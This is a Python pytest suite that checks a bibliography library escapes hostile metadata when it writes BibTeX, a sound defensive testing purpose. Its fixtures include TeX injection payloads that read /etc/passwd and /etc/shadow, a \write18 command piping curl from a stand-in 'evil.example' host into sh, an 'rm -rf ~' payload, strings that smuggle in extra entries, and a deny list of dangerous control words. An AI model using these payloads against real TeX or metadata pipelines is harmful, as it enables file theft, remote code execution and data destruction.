"""Untrusted metadata written as BibTeX: one entry per record, text intact, no TeX that runs."""
from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from bibtexparser import model as bpm
from bibtexparser.splitter import Splitter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bibtools.api import dump, load_string
from bibtools.safety import escape_latex_text, is_dangerous_command, safe_field_value, unsafe_reasons
from conftest import PROJECT

ATTACKS = [
    r"\input{/etc/passwd}",
    r"\input /etc/passwd ",
    r"\immediate\write18{curl http://evil.example/x.sh | sh}",
    r"\catcode`\@=11 \def\x{y}",
    r"\csname input\endcsname{/etc/shadow}",
    r"\@@input /etc/passwd",
    r"^^5cinput{/etc/passwd}",
    "}, note = {pwned",
    "x}\n@misc{evil, title = {gotcha}}\n",
    "a}}}}",
    "{{{{b",
    "line1\n\n@article{x,\n",
    "100% sure & $5 #1 under_score ~tilde^caret",
    "end with a backslash \\",
    "\\",
    r"$\{x\}$ and \\input x",
    "<script>alert(1)</script>",
]
DANGEROUS = re.compile(r"(?<!\\textbackslash\{\})\\(input|write18|write|immediate|catcode|def|csname|@@input)\b")


def _ws(text: str) -> str:
    return " ".join(text.split())


def _values(bib: str) -> list[tuple[str, str, str]]:
    """(key, field, value between the outer braces) for every field bibtexparser's splitter sees."""
    out = []
    for block in Splitter(bib).split().blocks:
        assert not isinstance(block, bpm.ParsingFailedBlock), block.raw
        if isinstance(block, bpm.Entry):
            for f in block.fields:
                value = f.value.strip()
                if f.key == "month" and value.isalpha():
                    continue  # a bare month macro (jan): nothing can hide in it
                assert value.startswith("{") and value.endswith("}"), f.value
                out.append((block.key, f.key, value[1:-1]))
    return out


def _check_bib(bib: str, keys: list[str]) -> None:
    entries = [b for b in Splitter(bib).split().blocks if isinstance(b, bpm.Entry)]
    assert [e.key for e in entries] == keys  # exactly one entry per record, nothing smuggled in
    for key, field, value in _values(bib):
        assert unsafe_reasons(value) == [], (key, field, value)
        assert not DANGEROUS.search(value), (key, field, value)


def _csl_items(texts: list[str]) -> list[dict]:
    return [
        {"id": f"k{i}", "type": "article-journal", "title": t, "abstract": t, "container-title": t,
         "author": [{"family": t, "given": "X"}], "URL": "https://ex.org/a?b=1&c=%20#frag", "DOI": "10.1000/x_y"}
        for i, t in enumerate(texts)
    ]


def test_hostile_csl_json_converts_to_safe_bibtex_and_reads_back_intact() -> None:
    library = load_string(json.dumps(_csl_items(ATTACKS)), "csljson")
    bib = dump(library, "bibtex")
    _check_bib(bib, [f"k{i}" for i in range(len(ATTACKS))])
    back = load_string(bib, "bibtex")
    assert [d for d in back.diagnostics if d.severity.value == "error"] == []
    assert [i.id for i in back.items] == [f"k{i}" for i in range(len(ATTACKS))]
    for text, item in zip(ATTACKS, back.items):
        assert _ws(item.title or "") == _ws(text)
        assert _ws(item.get("container-title")) == _ws(text)
        assert item.get("URL") == "https://ex.org/a?b=1&c=%20#frag"  # verbatim fields are not mangled
        assert item.get("DOI") == "10.1000/x_y"


def test_hostile_values_through_the_cli(tmp_path: Path) -> None:
    src = tmp_path / "in.json"
    src.write_text(json.dumps(_csl_items(ATTACKS)))
    out = tmp_path / "out.bib"
    proc = subprocess.run([sys.executable, "-m", "bibtools", "convert", str(src), "--to", "bibtex", "-o", str(out)],
                          capture_output=True, text=True, cwd=PROJECT)
    assert proc.returncode in (0, 1), proc.stderr
    _check_bib(out.read_text(), [f"k{i}" for i in range(len(ATTACKS))])


def test_hostile_listing_record_converts_safely() -> None:
    page = (
        "Some banner\n"
        "Jane Doe, John }Smith\n"
        "We show \\input{/etc/passwd} and }} then\n@misc{evil, title={x}} end.\n"
        "Via arXiv\n"
    )
    library = load_string(page, "listing", source="page.txt")
    assert len(library.items) == 1
    bib = dump(library, "bibtex")
    _check_bib(bib, [library.items[0].id])
    back = load_string(bib, "bibtex")
    assert len(back.items) == 1
    abstract = back.items[0].get("abstract") or ""
    assert "\\input" in abstract and "/etc/passwd" in abstract and "evil" in abstract  # kept, as text


def test_hostile_crossref_record_converts_safely() -> None:
    work = {"status": "ok", "message-type": "work", "message": {
        "DOI": "10.1000/evil", "type": "journal-article",
        "title": ["\\immediate\\write18{rm -rf ~} }\n@article{pwn, title={x}"],
        "author": [{"family": "O}Brien", "given": "\\input{x}"}],
        "container-title": ["J & {Things"], "issued": {"date-parts": [[2020, 1]]}}}
    library = load_string(json.dumps(work), "crossref")
    assert len(library.items) == 1
    bib = dump(library, "bibtex")
    _check_bib(bib, [library.items[0].id])
    back = load_string(bib, "bibtex")
    assert len(back.items) == 1
    assert _ws(back.items[0].title) == _ws(work["message"]["title"][0])
    # the names come back as names (the reader's name decoder drops a literal brace: "OBrien")
    assert [a.family.replace("}", "") for a in back.items[0].authors] == ["OBrien"]


def test_hostile_ris_record_converts_safely() -> None:
    ris = "TY  - JOUR\nTI  - \\input{/etc/passwd} }, note={x\nAU  - Doe}, J.\nPY  - 2020\nER  - \n"
    library = load_string(ris, "ris")
    bib = dump(library, "bibtex")
    _check_bib(bib, [library.items[0].id])
    assert _ws(load_string(bib, "bibtex").items[0].title) == "\\input{/etc/passwd} }, note={x"


plain = st.text(st.one_of(st.sampled_from(list("{}@\\%#&_$^~\n \t,=\"'`-")), st.characters(min_codepoint=32, max_codepoint=126)),
                min_size=1, max_size=40)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow], derandomize=True, database=None)
@given(st.lists(plain, min_size=1, max_size=3))
def test_any_text_round_trips_through_bibtex_as_text(texts: list[str]) -> None:
    texts = [t for t in texts if t.strip()] or ["x"]
    library = load_string(json.dumps(_csl_items(texts)), "csljson")
    bib = dump(library, "bibtex")
    _check_bib(bib, [f"k{i}" for i in range(len(texts))])
    back = load_string(bib, "bibtex")
    assert len(back.items) == len(texts)
    for text, item in zip(texts, back.items):
        if re.search(r"\\[A-Za-z]", text):
            continue  # the writer keeps \word as LaTeX by design (model text may carry undecoded macros)
        assert _ws(item.title or "") == _ws(text)


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.text(max_size=60))
def test_escaped_plain_text_is_safe_and_one_entry(text: str) -> None:
    value = escape_latex_text(text)
    assert unsafe_reasons(value) == []
    entries = [b for b in Splitter("@misc{k, title = {" + value + "}}\n").split().blocks]
    assert len(entries) == 1 and isinstance(entries[0], bpm.Entry)
    assert entries[0].fields[0].value == "{" + value + "}"


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.text(st.one_of(st.sampled_from(list("{}\\@%^$\n")), st.characters()), max_size=60), st.booleans())
def test_safe_field_value_is_safe_for_any_latex(latex: str, verbatim: bool) -> None:
    value = safe_field_value(latex, verbatim=verbatim)
    assert unsafe_reasons(value) == []
    blocks = Splitter("@misc{k, title = {" + value + "}}\n").split().blocks
    assert len(blocks) == 1 and isinstance(blocks[0], bpm.Entry)


def test_harmless_latex_and_urls_are_left_alone() -> None:
    for latex in [r"\textit{Homo sapiens} {\"o} $\alpha_1$ \& {DNA}", r"Caf\'{e} \url{http://x.org}"]:
        assert safe_field_value(latex) == latex
    url = "https://example.org/a_b?x=1&y=%20#frag"
    assert safe_field_value(url, verbatim=True) == url
    assert safe_field_value("https://x.org/{a", verbatim=True) == "https://x.org/%7Ba"


@pytest.mark.parametrize("name", ["input", "include", "write", "immediate", "catcode", "def", "gdef", "csname",
                                  "openout", "@@input", "directlua", "ShellEscape", "lstinputlisting", "usepackage"])
def test_dangerous_control_words(name: str) -> None:
    assert is_dangerous_command(name)
    assert unsafe_reasons(safe_field_value("\\" + name + "{x}")) == []
    assert unsafe_reasons("\\" + name + "{x}") != []


@pytest.mark.parametrize("name", ["textit", "emph", "alpha", "url", "noopsort", "mkbibquote", "textsc"])
def test_ordinary_control_words_are_kept(name: str) -> None:
    assert not is_dangerous_command(name)
    assert safe_field_value("\\" + name + "{x}") == "\\" + name + "{x}"
